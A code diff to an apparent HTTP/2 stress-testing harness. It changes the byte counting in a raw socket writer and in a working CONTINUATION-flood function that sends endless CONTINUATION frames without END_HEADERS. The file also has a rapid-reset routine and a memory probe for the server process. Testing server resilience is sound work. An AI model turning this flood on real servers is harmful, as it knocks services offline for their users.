@@ -103,16 +103,21 @@ class RawConnection:
         self._reader.start()
 
     def write(self, data: bytes) -> bool:
-        """Write all of data; False once the server has closed the connection or stopped reading it."""
+        """Write all of data; False once the server has closed the connection or stopped reading it.
+        bytes_written counts what the kernel took, a failed write's first part too: a server that closes
+        the connection halfway through a large write still saw that part sent."""
         with self._write_lock:
+            rest = memoryview(data)
             try:
-                self.sock.sendall(data)  # within the socket's timeout in all
+                while rest:
+                    sent = self.sock.send(rest)  # raises after the socket's timeout without progress
+                    self.bytes_written += sent
+                    rest = rest[sent:]
             except TimeoutError:
                 self.stalled = True
                 return False
             except OSError:
                 return False
-            self.bytes_written += len(data)
             return True
 
     def handshake(self, timeout_s: float = 10.0) -> bool:
@@ -223,18 +228,18 @@ def rapid_reset(
 
 def continuation_flood(conn: RawConnection, block: bytes, fragment: bytes, total_bytes: int) -> int:
     """HEADERS without END_HEADERS on stream 1, then CONTINUATION frames of fragment, none with END_HEADERS,
-    until total_bytes are written or the server closes or stops reading; returns the CONTINUATION frames
-    written. Nothing else is sent meanwhile: the attacker's own block is whole and in order."""
+    until total_bytes are written or the server closes or stops reading; returns the whole CONTINUATION
+    frames the kernel took. Nothing else is sent meanwhile: the attacker's own block is whole and in order."""
     assert conn.handshake(), "the server's SETTINGS never came"
     conn.answering = False
     if not conn.write(frame(HEADERS, 0, 1, block)):
         return 0
     one = frame(CONTINUATION, 0, 1, fragment)
     chunk = one * max(1, (1 << 20) // len(one))  # about a MiB a write
-    frames, start = 0, conn.bytes_written
+    start = conn.bytes_written
     while conn.bytes_written - start < total_bytes and conn.write(chunk):
-        frames += len(chunk) // len(one)
-    return frames
+        pass
+    return (conn.bytes_written - start) // len(one)
 
 
 def rss_mib(pid: int) -> float:
